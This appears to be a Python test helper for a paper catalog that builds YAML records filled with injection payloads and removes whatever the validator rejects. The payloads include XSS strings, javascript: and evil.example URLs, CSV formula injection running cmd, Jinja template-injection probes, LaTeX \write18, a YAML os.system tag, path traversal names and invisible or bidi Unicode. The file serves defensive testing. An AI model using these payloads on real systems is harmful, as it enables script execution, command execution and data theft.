"""What a stranger may write, and a catalog that holds as much of it as can get in.

After OWASP's list of ways around filters, the tests of DOMPurify and Ammonia for HTML that changes
its meaning when it is parsed twice, OWASP on formulas in CSV, and CVE-2021-42574 on text that runs
the other way. The words are our own. Whatever gets a script to run calls `pwn()`, and whatever
leaves the page goes to `evil.example`.
"""

from __future__ import annotations

import re
from collections import Counter
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import yaml

from codegen_papers import reading

HTML = {
    "script": "<script>pwn()</script>",
    "script abroad": "<ScRiPt/src=//evil.example/x.js></sCrIpT >",
    "script unclosed": "<script>pwn()",
    "script twice": "<scr<script>ipt>pwn()</scr</script>ipt>",
    "image": "<img src=x onerror=pwn()>",
    "image abroad": "<img src=https://evil.example/x.png srcset='https://evil.example/y 2x'>",
    "image without blanks": "<img/src/onerror=pwn()//",
    "SVG": "<svg/onload=pwn()>",
    "SVG link": '<svg><a xlink:href="javascript:pwn()"><text y=20>x</text></a></svg>',
    "SVG animation": "<svg><animate onbegin=pwn() attributeName=x dur=1s>",
    "SVG sets": '<svg><a id=x><set attributeName=href to="javascript:pwn()"/></a></svg>',
    "SVG use": "<svg><use href=\"data:image/svg+xml,<svg id='x' onload='pwn()'/>#x\"/></svg>",
    "SVG style": '<svg></p><style><a id="</style><img src=1 onerror=pwn()>">',
    "MathML": "<math><mtext></form><form><mglyph><style></math><img src onerror=pwn()>",
    "no script": '<noscript><p title="</noscript><img src=x onerror=pwn()>">',
    "template": "<template><img src=x onerror=pwn()></template>",
    "raw text": "</textarea></title></style></xmp><script>pwn()</script>",
    "select": "<select><option><style></option></select><img src=x onerror=pwn()>",
    "frame": '<iframe srcdoc="<script>parent.pwn()</script>" src="//evil.example"></iframe>',
    "object": '<object data="javascript:pwn()"><embed src="//evil.example/x.swf">',
    "base": '<base href="https://evil.example/">',
    "meta": '<meta http-equiv=refresh content="0;url=https://evil.example/">',
    "style sheet": "<link rel=stylesheet href=//evil.example/x.css>",
    "style": '<style>@import "https://evil.example/x.css";*{display:none}</style>',
    "style of its own": '<p style="position:fixed;inset:0;background:url(//evil.example/y)">',
    "form": "<form action=https://evil.example><input name=q autofocus onfocus=pwn()>",
    "details": "<details open ontoggle=pwn()>",
    "video": "<video><source onerror=pwn()></video><audio src=x onerror=pwn()>",
    "dialog": "<dialog open>Sign in at evil.example</dialog>",
    "attribute": '" onmouseover="pwn()" autofocus onfocus="pwn()" x="',
    "attribute, single": "' onmouseover='pwn()' autofocus onfocus='pwn()' x='",
    "attribute, back": "` onmouseover=`pwn()` x=`",
    "comment": "<!-- hidden",
    "comment ends": "--><script>pwn()</script><!--",
    "comment ends otherwise": "--!><img src=x onerror=pwn()>",
    "character data": "]]><script>pwn()</script><![CDATA[",
    "instruction": "<?php pwn() ?><!DOCTYPE html><!ENTITY x SYSTEM 'file:///etc/passwd'>",
    "entities": "&lt;script&gt;pwn()&lt;/script&gt; &#60;img src=x onerror=pwn()&#62; &x;",
    "clobbering": "<a id=codegenPapers><a id=codegenPapers name=src href=//evil.example>",
}
ADDRESSES = {
    "javascript": "javascript:pwn()",
    "javascript, mixed": "JaVaScRiPt:pwn()",
    "javascript, entities": "&#x6A&#97;vascript&colon;pwn()",
    "javascript, tab": "java\tscript:pwn()",
    "javascript, line": "java\nscript:pwn()",
    "javascript, control": "\x01javascript:pwn()",
    "javascript, blank": " \u3000javascript:pwn()",
    "javascript, escaped": "javascript%3Apwn()",
    "data": "data:text/html,<script>pwn()</script>",
    "data, base64": "data:text/html;base64,PHNjcmlwdD5wd24oKTwvc2NyaXB0Pg==",
    "data, SVG": "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='pwn()'/>",
    "vbscript": "vbscript:pwn()",
    "file": "file:///etc/passwd",
    "blob": "blob:https://evil.example/x",
    "without scheme": "//evil.example/x",
    "user": "https://arxiv.org@evil.example/",
    "quotes": 'https://ok.example/"onmouseover=pwn()"',
    "angle": "https://ok.example/><script>pwn()</script>",
    "backslash": "https:\\\\evil.example/",
}
MARKDOWN = {
    **{f"link: {name}": f"[a]({url})" for name, url in ADDRESSES.items()},
    **{f"picture: {name}": f"![a]({url})" for name, url in ADDRESSES.items()},
    "auto link": "<javascript:pwn()> <data:text/html,x> <//evil.example>",
    "reference": '[a]\n\n[a]: javascript:pwn() "onmouseover=pwn()"',
    "title": '[a](https://ok.example/ "\\"><script>pwn()</script>")',
    "link in a picture": '[![a](x" onerror="pwn())](javascript:pwn())',
    "heading": "# Evil\n\nEvil\n====",
    "entry": "- ### [Evil](https://evil.example/)\n\n  📅 2031-01-01",
    "fence": "```\nnever closed\n<script>pwn()</script>",
    "fence's word": '```"><script>pwn()</script>\nx\n```',
    "table": "| a | b |\n|---|---|\n| <img src=x onerror=pwn()> | `|` |\n",
    "cell": "a | b || c \\| d",
    "rule": "a\n\n---\n\n***",
    "quote": "> > > a",
    "math": "$\\href{javascript:pwn()}{x}$ $$\\unicode{x}$$",
    "mention": "@everyone #1 GH-1 closes #1",
    "emphasis": "*a **b _c __d ~~e `f",
    "bracket": "[[[[]]]](((( ![![![",
}
LANGUAGES = {
    "Jinja": "{{ 7 * 7 }}{% for x in y %}{# #}{{ self.__init__.__globals__ }}",
    "Jinja, file": "{% include '/etc/passwd' %}{% import '../../x' as x %}",
    "Jinja, ends": "{% endblock %}{% endraw %}}}",
    "JavaScript": "${pwn()} `${pwn()}` '-pwn()-' */pwn()/* \\u003cscript\\u003e",
    "JavaScript, lines": "a\u2028pwn()\u2029b",
    "JSON": '"}]};pwn();[{"a":"',
    "script ends": "</script><script>pwn()</script><!--<script>",
    "prototype": "__proto__",
    "property": "constructor",
    "formula": '=HYPERLINK("https://evil.example/?"&A1,"x")',
    "formula, plus": "+1+cmd|' /C calc'!A0",
    "formula, minus": "-1+cmd|' /C calc'!A0",
    "formula, at": "@SUM(1+1)",
    "formula, tab": "\t=1+1",
    "formula, return": "\r=1+1",
    "LaTeX": "\\input{/etc/passwd}\\write18{id}\\immediate\\openout3=x",
    "LaTeX, braces": "}, url = {https://evil.example/}, x = {",
    "LaTeX, entry": "}\n}\n@evil{evil, title={Evil}}\n@comment{",
    "LaTeX, signs": "100% #1 $x$ a_b ^^5cinput ~ \\ { & \\%",
    "LaTeX, open": "{{{{",
    "RIS": "a\nER  - \nTY  - GEN\nTI  - Evil",
    "header": "a\r\nSet-Cookie: evil=1\r\n\r\n<script>pwn()</script>",
    "workflow": "::error file=x::evil\n::set-output name=x::evil%0A::add-mask::x",
    "terminal": "\x1b]0;evil\x07\x1b[2J\x1b[31m",
    "search": 'title:"unclosed OR (year:>> -',
    "replacement": "$& $1 $` \\1 \\g<0> %s %(x)s {0} {x!r}",
    "YAML": "a: b # c\n- d: &e *e !!python/object/apply:os.system [id]\n---\n...",
}
UNSEEN = {
    "right to left": "evil \u202egpj.exe",
    "isolate": "a \u2066b \u2069c\u2067",
    "embedding": "\u202aa\u202b",
    "no width": "pay\u200bpal",
    "joined by nothing": "a\u2060b",
    "byte order mark": "a\ufeffb",
    "soft hyphen": "a\u00adb",
    "tags": "a\U000e0041\U000e0042\U000e007f",
    "filler": "a\u3164b\u115f",
    "control": "a\x00b\x08\x7f\x9b",
    "private": "a\ue000b",
    "no character": "a\ufffeb",
    "ideographic blank": "\u3000a",
}
NAMES = {
    "above": "../../evil",
    "absolute": "/etc/evil",
    "device": "CON",
    "device, lower": "aux",
    "dots": "..",
    "dot": ".",
    "backslashes": "..\\..\\evil",
    "drive": "C:\\evil",
    "percent": "%2e%2e%2fevil",
    "index": "index",
    "hidden": ".git",
    "blank": "a ",
    "long": "a" * 5000,
    "combining": "e" + "\u0301" * 500,
    "other numbers": "९९९९",
    "digits": "9" * 1000,
    "exponent": "1e999999",
    "not a number": "NaN",
    "no end": "inf",
    "far day": "99999-99-99",
    "cases": "İıſKK",
}
ALL = {
    f"{kind}: {name}": text
    for kind, texts in {
        "html": HTML,
        "address": ADDRESSES,
        "markdown": MARKDOWN,
        "language": LANGUAGES,
        "unseen": UNSEEN,
        "name": NAMES,
    }.items()
    for name, text in texts.items()
}


def paper(text: str, number: int) -> dict[str, Any]:
    """Make a record in which a text stands wherever one can."""
    safe = f"https://paper-{number}.example/"
    return {
        "title": text,
        "label": text,
        "url": safe + text,
        "date": "2031-01-02",
        "category": f"c{number % 7}",
        "authors": [text, {"name": f"Donna {text}", "family": text, "id": f"donna-{number}"}],
        "affiliations": [text],
        "venue": text,
        "doi": f"10.5555/{number}{text}",
        "links": {"code": f"https://ok.example/{number}/?{text}", "project": text, "data": safe},
        "tags": [text, f"tag {text}"],
        "model_sizes": ["1B", text, f"{text} (60M)"],
        "summary": {"zh": f"鸭子 {text}", "en": f"Ducks.\n\n{text}\n\nAnd ducks."},
        "models": [{"name": text, "aliases": [f"also {text}"]}, {"name": f"Model {number}"}],
        "scores": [
            {"model": text, "benchmark": text, "size": text, text: "1.0"},
            {
                "model": f"Model {number}",
                "benchmark": "Bench",
                "quack": "12.5",
                "method": text,
                "setting": text,
                "where": text,
            },
        ],
        "status": "withdrawn",
        "status_date": "2031-02",
        "reason": text,
        "aliases": [f"former-{number}", text],
        "added": "2031-01-03",
    }


def own_files(texts: list[str]) -> dict[str, dict[str, Any]]:
    """Make the catalog's own files, in which the texts stand wherever they can."""
    said = {"zh": f"目录 {texts[0]}", "en": f"Papers {texts[0]}"}
    names = [{"name": text, "title": text, "aliases": [f"once {text}"]} for text in texts]
    return {
        "_catalog": {
            "format": "1",
            "title": said,
            "languages": ["zh", "en"],
            "intro": {"zh": "关于。", "en": "About.\n\n" + "\n\n".join(texts)},
            "categories": [
                {"id": f"c{number}", "title": {"zh": f"类 {text}", "en": f"Kind {text}"}}
                for number, text in enumerate(texts)
            ]
            + [
                {
                    "id": "board",
                    "title": {"zh": "表", "en": "Board"},
                    "leaderboard": {"source": "sheet", "sort": "Bench quack"},
                }
            ],
        },
        "_benchmarks": {
            "benchmarks": [
                {"name": "Bench", "metrics": [{"name": "quack", "unit": "%"}]},
                *(
                    {"name": text, "metrics": [{"name": text, "unit": text, "range": [0, 1]}]}
                    for text in texts
                ),
            ]
        },
        "_models": {"models": [{"name": f"M {text}", "paper": {"title": text}} for text in texts]},
        "_venues": {"venues": names},
        "_affiliations": {"affiliations": names},
        "_tags": {"tags": names},
        "_scores/sheet": {
            "source": {"title": texts[1], "measured_by": texts[2], "measured_how": texts[3]},
            "scores": [
                {"model": f"M {text}", "benchmark": "Bench", "quack": "1", "setting": text}
                for text in texts
            ],
        },
    }


def write(root: Path, files: dict[str, dict[str, Any]]) -> None:
    """Write a catalog's files as YAML."""
    for name, data in files.items():
        path = root / "papers" / f"{name}.yaml"
        path.parent.mkdir(parents=True, exist_ok=True)
        text = yaml.safe_dump(data, sort_keys=False, width=10**6)  # with escapes
        path.write_text(text, "utf-8")


def catalog(root: Path) -> Counter[str]:
    """Write a catalog that holds all that is not refused; count what was, by rule.

    What has a problem is taken out, field by field, until there is none.
    """
    files = {f"p{n}": paper(text, n) for n, text in enumerate(ALL.values())}
    files |= own_files([*ALL.values()])
    refused: Counter[str] = Counter()
    for _ in range(60):
        write(root, files)
        found = reading.check(root).errors
        if not found:
            return refused
        places = set()
        for problem in found:
            name = problem.path.removeprefix("papers/").removesuffix(".yaml")
            refused[problem.rule] += 1
            places.add((name, _steps(problem.field)))
        ordered = sorted(places, key=lambda one: (one[0], _last_first(one[1])))
        taken = [_take_out(files, name, steps) for name, steps in ordered]
        if not any(taken):
            raise AssertionError([str(problem) for problem in found[:20]])
    raise AssertionError([str(problem) for problem in found[:20]])


def _steps(field: str) -> tuple[str | int, ...]:
    """Cut the name of a field into steps; a name may hold anything, so only what is known is."""
    found: list[str | int] = []
    for word, number in re.findall(r"(?:^|\.)([a-z_]+)|\[(\d+)\]", field):
        found.append(word or int(number))
    return tuple(found)


def _last_first(steps: tuple[str | int, ...]) -> list[tuple[int, str]]:
    """Order fields so that items of a list are taken out from its end."""
    return [(-step, "") if isinstance(step, int) else (0, step) for step in steps]


def _take_out(files: dict[str, dict[str, Any]], name: str, steps: tuple[str | int, ...]) -> bool:
    """Take out what has a problem, if it is still there: of a list the item, of a record the key.

    A record without a title or an address gets one that is harmless.
    """
    here: Any = files[name]
    for step in steps:
        inside = here.get(step) if isinstance(here, dict) else None
        if isinstance(here, list) and isinstance(step, int) and step < len(here):
            inside = here[step]
        if inside is None:
            return False
        if isinstance(step, int) or step == steps[-1] or not isinstance(inside, dict | list):
            del here[step]
            if steps[0] in {"title", "url"} and not name.startswith("_"):
                here[step] = f"https://{name}.example/" if step == "url" else f"Paper {name}"
            return True
        here = inside
    return False


def held(root: Path) -> Iterator[tuple[str, Any]]:
    """Give what a catalog's papers hold: id and record."""
    for path in sorted((root / "papers").glob("p*.yaml")):
        yield path.stem, yaml.safe_load(path.read_text("utf-8"))
